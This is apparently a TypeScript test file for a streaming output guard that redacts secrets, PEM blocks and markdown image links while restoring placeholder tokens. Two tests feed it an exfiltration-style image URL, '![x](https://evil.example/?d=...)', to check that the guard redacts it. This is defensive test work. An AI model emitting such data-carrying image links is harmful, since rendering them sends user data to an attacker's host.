import { describe, expect, it } from "vitest";
import { WardenError } from "../../core/warden-error.js";
import { ChannelBuffer } from "./channel-buffer.js";
import type { ChannelScanner, ScanResult, TextEdit, TokenRestorer } from "./channel-scanner.js";

/** Redacts every occurrence of `needle`; records what it was asked. */
function scanner(needle: string, extra: (text: string) => TextEdit[] = () => []): ChannelScanner & { seen: string[] } {
  const seen: string[] = [];
  return {
    maxMatchLength: needle.length,
    seen,
    scan(text): ScanResult {
      seen.push(text);
      const edits: TextEdit[] = [...extra(text)];
      for (let i = text.indexOf(needle); i >= 0; i = text.indexOf(needle, i + 1)) edits.push({ start: i, end: i + needle.length, replacement: "[X]" });
      return { edits };
    },
  };
}

const buffer = (s: ChannelScanner, window = s.maxMatchLength, restorer?: TokenRestorer) =>
  new ChannelBuffer("choice:0:content", "text", { scanner: s, window, contextLength: window, restorer });

/** Push pieces; returns what was released after each push and at the end. */
function run(b: ChannelBuffer, pieces: string[]): string[] {
  return [...pieces.map((p) => b.push(p)), b.end()];
}

describe("ChannelBuffer", () => {
  it.each([
    { name: "holds the window, releases the rest", pieces: ["abcdefgh", "ij"], window: 3, out: ["abcde", "fg", "hij"] },
    { name: "a match straddling the cut is held whole", pieces: ["xxSECRET", "yyyyyy"], window: 3, out: ["xx", "[X]yyy", "yyy"] },
    { name: "a match split across three pieces", pieces: ["aSE", "CR", "ETbbbbbbb"], window: 6, out: ["", "", "a[X]b", "bbbbbb"] },
    { name: "window 0 releases a complete piece at once", pieces: ["ab", "cd"], window: 0, out: ["ab", "cd", ""] },
    { name: "final scan edits a match at the very end", pieces: ["zzSECR", "ET"], window: 6, out: ["", "zz", "[X]"] },
  ])("$name", ({ pieces, window, out }) => {
    expect(run(buffer(scanner("SECRET"), window), pieces)).toEqual(out);
  });

  it("seed: a channel started with another's left context finds a value cut between them and edits its own part", () => {
    const first = buffer(scanner("SECRET"), 6);
    expect(run(first, ["the value is SEC"])).toEqual(["the value ", "is SEC"]);
    const second = buffer(scanner("SECRET"), 6);
    second.seed(first.leftContext);
    expect(run(second, ["RET and more"])).toEqual(["[X] an", "d more"]);
  });

  it("seed keeps at most contextLength units and only before anything was pushed", () => {
    const s = scanner("SECRET");
    const b = new ChannelBuffer("c", "text", { scanner: s, window: 6, contextLength: 4 });
    b.seed("abcdefgh");
    expect(b.leftContext).toBe("efgh");
    b.push("x");
    b.seed("zzzz");
    expect(b.leftContext).toBe("efgh");
  });

  it("does not scan while everything pending is inside the window", () => {
    const s = scanner("SECRET");
    const b = buffer(s, 10);
    b.push("abc");
    b.push("def");
    expect(s.seen).toEqual([]);
    b.push("ghijkl");
    expect(s.seen).toEqual(["abcdefghijkl"]);
  });

  it("gives the scanner released text as left context, restarting after an edit", () => {
    const s = scanner("SECRET");
    const b = new ChannelBuffer("c", "text", { scanner: s, window: 6, contextLength: 20 });
    expect(b.push("hello SECRET world and more")).toBe("hello [X] world an");
    b.push("!!!!!!!!");
    // context = raw released text after the last edit (" world an"), then the pending text.
    expect(s.seen[1]).toBe(" world and more!!!!!!!!");
    b.push("?".repeat(30));
    b.push(".".repeat(10));
    // ...and never longer than contextLength: 20 of context + 6 held + 10 new.
    expect(s.seen[3]).toBe(`${"?".repeat(26)}${".".repeat(10)}`);
  });

  it("clips an edit that reaches back into released context to the unreleased part", () => {
    // A scanner whose match starts in the context: only the unreleased part can still change.
    // A match reported only once "Z" arrives, starting at 0: "abcd" is already out, so only "efgh" is replaced.
    const s = scanner("NOPE", (t) => (t.endsWith("Z") ? [{ start: 0, end: t.length - 1, replacement: "[C]" }] : []));
    expect(run(buffer(s, 4), ["abcdefgh", "Z"])).toEqual(["abcd", "", "[C]Z"]);
  });

  it("keeps the first of overlapping edits (longest on a tie)", () => {
    const s = scanner("NONE", () => [
      { start: 2, end: 6, replacement: "[B]" },
      { start: 0, end: 4, replacement: "[A]" },
      { start: 0, end: 3, replacement: "[a]" },
      { start: 8, end: 8, replacement: "[empty]" },
    ]);
    expect(run(buffer(s, 0), ["abcdefghij"]).join("")).toBe("[A]efghij");
  });

  it("widens edits to whole code points", () => {
    const s = scanner("NONE", (t) => {
      const i = t.indexOf("😀");
      return i >= 0 ? [{ start: i + 1, end: i + 2, replacement: "[E]" }] : [];
    });
    expect(run(buffer(s, 0), ["a😀b"]).join("")).toBe("a[E]b");
  });

  it("throws the block decision as WARDEN_POLICY_RESPONSE_BLOCKED, or the guard's own WardenError", () => {
    const block = (err: Error): ChannelScanner => ({ maxMatchLength: 2, scan: () => ({ edits: [], block: err }) });
    const e1 = (() => {
      try {
        buffer(block(new Error("x")), 0).push("abc");
      } catch (e) {
        return e;
      }
    })();
    expect((e1 as WardenError).code).toBe("WARDEN_POLICY_RESPONSE_BLOCKED");
    const own = new WardenError("WARDEN_POLICY_CONTROL_FAILED");
    expect(() => buffer(block(own), 0).push("abc")).toThrow(own);
  });

  describe("token restoration", () => {
    const restorer: TokenRestorer = {
      maxTokenLength: 12,
      pattern: /<T_[0-9]{1,8}>/,
      restore: (t) => ({ "<T_1>": "Alice", "<T_22>": "Bob" })[t],
    };
    it.each([
      { pieces: ["hi <T_", "1> and <T_22>!"], out: "hi Alice and Bob!" },
      { pieces: ["<", "T", "_", "1", ">"], out: "Alice" },
      { pieces: ["unknown <T_9> stays"], out: "unknown <T_9> stays" },
      { pieces: ["a SECRET <T_1>"], out: "a [X] Alice" },
    ])("$pieces", ({ pieces, out }) => {
      const b = buffer(scanner("SECRET"), 2, restorer);
      expect(run(b, pieces).join("")).toBe(out);
    });

    it("holds a token straddling the cut even with a small window", () => {
      const b = new ChannelBuffer("c", "text", { scanner: scanner("SECRET"), window: 12, contextLength: 12, restorer });
      const released = b.push("xxxxxxxxxxxxxxxx<T_22>yyyyyyyyyyy");
      // The cut (33 - 12 = 21) falls inside the token [16, 22): the token is held whole, then restored.
      expect(released).toBe("x".repeat(16));
      expect(b.end()).toBe(`Bob${"y".repeat(11)}`);
    });
  });

  describe("scanner holdFrom (a long value has begun)", () => {
    // Holds from "BEGIN" until "END" arrives, then redacts the block.
    const pem: ChannelScanner = {
      maxMatchLength: 4,
      scan(text) {
        const b = text.indexOf("BEGIN");
        if (b < 0) return { edits: [] };
        const e = text.indexOf("END", b);
        return e < 0 ? { edits: [], holdFrom: b } : { edits: [{ start: b, end: e + 3, replacement: "[PEM]" }] };
      },
    };
    it("holds past the window until the value completes", () => {
      const b = new ChannelBuffer("c", "text", { scanner: pem, window: 4, contextLength: 0 });
      expect(run(b, ["key: BEGIN aaaa", "bbbbbbbbbbbb", "cccc END and on and on"])).toEqual(["key: ", "", "[PEM] and on an", "d on"]);
    });
    it("stops holding past maxHold", () => {
      const b = new ChannelBuffer("c", "text", { scanner: pem, window: 4, contextLength: 0, maxHold: 10 });
      expect(b.push("x BEGIN 1234")).toBe("x ");
      expect(b.push("56789")).toBe("BEGIN 12345");
    });
  });

  describe("a long hold is not rescanned per piece", () => {
    /** Holds from an unfinished `![x](` to the end; redacts a finished `![x](…)` whole. */
    function sinkScanner(): ChannelScanner & { scans: number } {
      const sc = {
        maxMatchLength: 8,
        scans: 0,
        scan(text: string, _c: string, final: boolean): ScanResult {
          sc.scans++;
          const edits: TextEdit[] = [];
          for (const m of text.matchAll(/!\[x\]\([^)\s]*\)/g)) edits.push({ start: m.index, end: m.index + m[0].length, replacement: "[IMG]" });
          const open = text.lastIndexOf("![x](");
          const pending = !final && open >= 0 && text.indexOf(")", open) < 0;
          return pending ? { edits, holdFrom: open } : { edits };
        },
      };
      return sc;
    }

    it("a URL growing 8 characters at a time is scanned O(log n) times, and judged whole when it ends", () => {
      const sc = sinkScanner();
      const b = new ChannelBuffer("c", "text", { scanner: sc, window: 8, contextLength: 8 });
      let out = b.push("before ![x](https://evil.example/?d=");
      for (let i = 0; i < 4000; i++) out += b.push("AAAAAAAA");
      out += b.push(") after") + b.end();
      expect(out).toBe("before [IMG] after");
      expect(sc.scans).toBeLessThan(40);
    });

    it("a hold that passes maxHold is scanned again at once (so the scanner can stop it)", () => {
      const sc = sinkScanner();
      const b = new ChannelBuffer("c", "text", { scanner: sc, window: 8, contextLength: 8, maxHold: 1000 });
      b.push("![x](https://evil.example/?d=");
      for (let i = 0; i < 120; i++) b.push("AAAAAAAA");
      const before = sc.scans;
      for (let i = 0; i < 10; i++) b.push("AAAAAAAA");
      expect(sc.scans).toBeGreaterThan(before);
    });
  });

  describe("early release (scanner pendingFrom)", () => {
    /** Redacts SECRET; a finding can only be in progress in the trailing run of capitals. */
    const early = (): ChannelScanner & { seen: string[] } => ({
      ...scanner("SECRET"),
      pendingFrom(text) {
        let i = text.length;
        while (i > 0 && /[A-Z]/.test(text[i - 1] as string)) i--;
        return i;
      },
    });
    it.each([
      { name: "releases everything before the in-progress run at once", pieces: ["hello wor", "ld SE", "CRET ok"], window: 20, out: ["hello wor", "ld ", "[X] ok", ""] },
      { name: "the window still bounds a long run", pieces: ["ab", "CDEFGHIJ"], window: 4, out: ["ab", "CDEF", "GHIJ"] },
      { name: "a match straddling pendingFrom is held whole", pieces: ["xSECRETAB"], window: 20, out: ["x", "[X]AB"] },
    ])("$name", ({ pieces, window, out }) => {
      expect(run(new ChannelBuffer("c", "text", { scanner: early(), window, contextLength: 8 }), pieces)).toEqual(out);
    });
    it("scans every piece that can release something, even inside the window", () => {
      const s = early();
      const b = new ChannelBuffer("c", "text", { scanner: s, window: 50, contextLength: 8 });
      expect(b.push("ab ")).toBe("ab ");
      expect(b.push("CD")).toBe("");
      expect(b.push("EF")).toBe("");
      expect(s.seen).toEqual(["ab "]);
      expect(b.push(" gh")).toBe("CDEF gh");
      expect(s.seen).toEqual(["ab ", "ab CDEF gh"]);
    });
    it("holds a partial vault token (restorer partialFrom, else its longest length)", () => {
      const restorer: TokenRestorer = { maxTokenLength: 6, pattern: /<t[0-9]+>/, restore: (t) => (t === "<t12>" ? "Alice" : undefined) };
      const withPartial: TokenRestorer = { ...restorer, partialFrom: (text) => { const o = text.lastIndexOf("<"); return o >= 0 && text.indexOf(">", o) < 0 ? o : text.length; } };
      expect(run(new ChannelBuffer("c", "text", { scanner: early(), window: 20, contextLength: 8, restorer: withPartial }), ["hi <t1", "2> yo"])).toEqual(["hi ", "Alice yo", ""]);
      expect(run(new ChannelBuffer("c", "text", { scanner: early(), window: 20, contextLength: 8, restorer }), ["hi there <t1", "2> you"])).toEqual(["hi the", "re ", "Alice you"]);
    });
  });

  it("keeps totals for snapshots", () => {
    const b = new ChannelBuffer("c", "text", { scanner: scanner("SECRET"), window: 6, contextLength: 6, keepTotals: true });
    run(b, ["a SEC", "RET b"]);
    expect(b.rawTotal).toBe("a SECRET b");
    expect(b.outTotal).toBe("a [X] b");
  });
});
